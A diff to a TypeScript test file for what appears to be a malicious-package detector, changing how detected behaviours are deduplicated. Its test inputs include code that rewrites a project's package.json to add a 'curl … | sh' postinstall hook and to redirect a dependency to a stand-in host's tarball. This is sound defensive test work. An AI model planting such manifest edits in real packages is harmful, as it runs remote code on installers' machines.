@@ -96,10 +96,13 @@ describe('places that other programs read', () => {
   });
 
   it('are a manifest in which something is set before it is written back', () => {
-    const set = (part: string): readonly string[] =>
-      behavioursOf(
-        `const f = process.env.INIT_CWD + '/package.json'; const p = JSON.parse(fs.readFileSync(f, 'utf8')); p.${part}; fs.writeFileSync(f, JSON.stringify(p));`,
-      );
+    const set = (part: string): readonly string[] => [
+      ...new Set(
+        behavioursOf(
+          `const f = process.env.INIT_CWD + '/package.json'; const p = JSON.parse(fs.readFileSync(f, 'utf8')); p.${part}; fs.writeFileSync(f, JSON.stringify(p));`,
+        ),
+      ),
+    ];
     assert.deepEqual(set(`scripts.postinstall = 'curl https://load.invalid/x | sh'`), ['download-and-run import']);
     assert.deepEqual(set(`dependencies['left-pad'] = 'https://load.invalid/a.tgz'`), ['downloads-redirected import']);
     assert.deepEqual(set(`scripts.prepare = 'husky'`), []);
